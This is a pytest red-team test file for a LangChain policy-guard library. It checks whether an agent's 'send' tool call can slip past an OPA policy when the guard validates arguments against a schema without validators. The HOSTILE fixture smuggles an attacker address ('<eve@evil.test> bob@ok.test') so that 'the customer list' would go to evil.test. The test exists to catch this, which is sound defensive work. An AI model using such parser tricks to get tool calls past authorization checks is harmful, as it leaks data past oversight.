"""Red team: the guard checks arguments against the tool's *tool-call* schema, a copy of
its args_schema that keeps field types but drops the schema's validators and config; the
tool then runs its real schema on the decided arguments."""

from __future__ import annotations

import re
from typing import Any

import pytest
from conftest import TEST_POLICIES
from langchain.agents import create_agent
from langchain_core.messages import AIMessage
from langchain_core.runnables import RunnableLambda
from langchain_core.tools import BaseTool, StructuredTool
from langgraph.graph import END, START, MessagesState, StateGraph
from langgraph.prebuilt import ToolNode, tools_condition
from mediation_kit import POLICY, USER, Ledger, Script
from pydantic import BaseModel, field_validator
from test_integrations import plain_agent

from langchain_opa_guard import (
    EmbeddedPolicy,
    GuardedToolNode,
    OPAGuardMiddleware,
    PolicyEngine,
    PolicyGuardNode,
    ToolCallGuard,
    guard_tools,
)
from langchain_opa_guard.testing import ScriptedChatModel, tool_call


@pytest.fixture
def engine() -> PolicyEngine:
    return EmbeddedPolicy(TEST_POLICIES, policy=POLICY)


class SendArgs(BaseModel):
    """Send a message to one recipient."""

    to: str
    body: str

    @field_validator("to")
    @classmethod
    def bare_address(cls, value: str) -> str:
        """Accept "Name <address>" as well as a bare address (the mail API wants bare)."""
        match = re.search(r"<([^<>]+)>", value)
        return match.group(1) if match else value.strip()


def send_tool(ledger: Ledger) -> BaseTool:
    def send(to: str, body: str) -> str:
        ledger.record("send", "-", {"to": to, "body": body})
        return "sent"

    return StructuredTool.from_function(
        send, name="send", description="Send a message.", args_schema=SendArgs
    )


# The policy allows send only to addresses ending in "@ok.test".
HOSTILE = {"to": "<eve@evil.test> bob@ok.test", "body": "the customer list"}
PLAIN = {"to": "eve@evil.test", "body": "the customer list"}


def run(engine: PolicyEngine, surface: str, args: dict[str, Any]) -> Ledger:
    ledger = Ledger()
    tools = [send_tool(ledger)]
    message = AIMessage("", tool_calls=[tool_call("send", args, "s1")])
    if surface == "guard_node":
        script = Script([message, "done"])
        node = GuardedToolNode(tools)
        builder = StateGraph(MessagesState)
        builder.add_node(
            "agent", RunnableLambda(lambda s: {"messages": [script.reply(s["messages"])]})
        )
        builder.add_node("guard", PolicyGuardNode(engine, registry=node))
        builder.add_node("tools", node)
        builder.add_edge(START, "agent")
        builder.add_conditional_edges("agent", tools_condition, {"tools": "guard", END: END})
        builder.add_edge("tools", "agent")
        graph = builder.compile()
    elif surface == "middleware":
        graph = create_agent(
            ScriptedChatModel(script=[message, "done"]),
            tools,
            middleware=[OPAGuardMiddleware(engine, registry=tools)],
        )
    elif surface == "interceptor":
        guard = ToolCallGuard(engine, registry=tools)
        node = ToolNode(tools, wrap_tool_call=guard.wrap_tool_call)
        graph = plain_agent(ScriptedChatModel(script=[message, "done"]), node)
    else:
        graph = create_agent(
            ScriptedChatModel(script=[message, "done"]), guard_tools(tools, engine)
        )
    graph.invoke({"messages": [("user", "mail it")]}, context={"user": USER})
    return ledger


SURFACES = ["guard_node", "middleware", "interceptor", "guard_tools"]


@pytest.mark.parametrize("surface", SURFACES)
def test_control_a_plain_outside_address_is_denied(engine: PolicyEngine, surface: str) -> None:
    assert run(engine, surface, PLAIN).runs == []


@pytest.mark.parametrize("surface", SURFACES)
def test_the_policy_decides_the_address_the_tool_sends_to(
    engine: PolicyEngine, surface: str
) -> None:
    """README: "The policy decides on the arguments that will run: each call goes through
    its tool's own schema first". The policy saw '<eve@evil.test> bob@ok.test' (ends in
    @ok.test: allowed); the tool's validator turned it into eve@evil.test."""
    runs = run(engine, surface, HOSTILE).runs
    sent_to = [args["to"] for _, _, args in runs]
    assert "eve@evil.test" not in sent_to, f"sent to {sent_to}"
